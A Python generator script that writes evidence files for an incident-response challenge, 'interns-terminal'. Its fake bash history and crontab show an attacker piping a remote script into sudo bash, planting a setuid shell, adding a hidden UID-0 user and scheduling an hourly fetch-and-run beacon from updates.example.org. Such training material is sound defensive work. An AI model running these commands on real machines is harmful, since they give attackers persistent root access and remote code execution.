#!/usr/bin/env python3
"""Regenerate the attachments of content/challenges/interns-terminal (deterministic, static text)."""
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
OUT = ROOT / "content" / "challenges" / "interns-terminal" / "files"

BASH_HISTORY = """cd ~/projects/inventory-api
git pull
npm install
npm test
ls -la
cd ..
sudo apt update
sudo apt install -y htop
htop
ssh-keygen -t ed25519 -C "lena@wks-014"
cat ~/.ssh/id_ed25519.pub
cd ~/projects/inventory-api
code .
git status
git checkout -b feature/stock-alerts
npm run dev
curl -s http://localhost:3000/health
exit
whoami
id
uname -a
sudo -l
cd /tmp
curl -fsSL http://updates.example.org/agent/install.sh | sudo bash
ls -la /var/tmp
sudo mkdir -p /var/tmp/.cache
sudo cp /bin/bash /var/tmp/.cache/.bsh
sudo chmod u+s,go-w /var/tmp/.cache/.bsh
ls -la /var/tmp/.cache
sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupd
echo 'sysupd:Winter2026!' | sudo chpasswd
(sudo crontab -l 2>/dev/null; echo '17 * * * * /var/tmp/.cache/.bsh -p -c "curl -fsSL http://updates.example.org/agent/beacon | bash"') | sudo crontab -
sudo crontab -l
history -c
cd ~/projects/inventory-api
npm run dev
"""

LS_LA = """$ ls -la /var/tmp/.cache
total 1372
drwxr-xr-x 2 root root    4096 Mar 12 02:14 .
drwxrwxrwt 9 root root    4096 Mar 12 02:14 ..
-rwsr-xr-x 1 root root 1396520 Mar 12 02:14 .bsh
"""

PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin
sshd:x:105:65534::/run/sshd:/usr/sbin/nologin
lena:x:1000:1000:Lena Okafor,,,:/home/lena:/bin/bash
postgres:x:106:112:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash
sysupd:x:0:0::/root:/bin/bash
"""

CRONTAB = """$ sudo crontab -l
# m h  dom mon dow   command
30 3 * * 0 /usr/sbin/logrotate /etc/logrotate.conf
17 * * * * /var/tmp/.cache/.bsh -p -c "curl -fsSL http://updates.example.org/agent/beacon | bash"
"""


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    (OUT / "bash_history.txt").write_text(BASH_HISTORY)
    (OUT / "ls-la.txt").write_text(LS_LA)
    (OUT / "passwd.txt").write_text(PASSWD)
    (OUT / "root-crontab.txt").write_text(CRONTAB)
    print("wrote", OUT)


if __name__ == "__main__":
    main()
